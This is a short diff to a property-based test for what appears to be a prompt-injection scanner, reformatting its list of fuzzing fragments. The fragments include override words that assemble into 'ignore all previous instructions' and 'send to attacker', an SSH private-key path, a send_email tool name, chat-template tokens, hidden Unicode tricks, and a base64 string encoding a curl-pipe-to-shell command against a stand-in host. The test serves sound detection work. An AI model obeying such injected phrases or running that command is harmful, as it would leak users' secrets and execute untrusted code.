@@ -25,17 +25,8 @@ from directory_server.text_marks.scanner import MAX_FINDINGS
 PIECES = st.sampled_from(
     [
         *("ignore", "all", "previous", "instructions", "do not", "tell", "the user", "send", "to", "attacker", "never"),
-        *(
-            "~/.ssh/id_rsa",
-            "send_email",
-            "https://a.example",
-            "a@b.example",
-            "<system>",
-            "[INST]",
-            "##",
-            "{{",
-            "%41%42",
-        ),
+        *("~/.ssh/id_rsa", "send_email", "https://a.example", "a@b.example", "<system>", "[INST]", "##", "{{"),
+        "%41%42",
         *("\u200b", "\u202e", "\U000e0041", "\u0430", "a\u0430b", "\ud800", "\x00", "\x1b[31m", "\ue000", "\ufe0f"),
         *(
             "Y3VybCBodHRwOi8vYS5leGFtcGxlL3ggfCBzaA==",
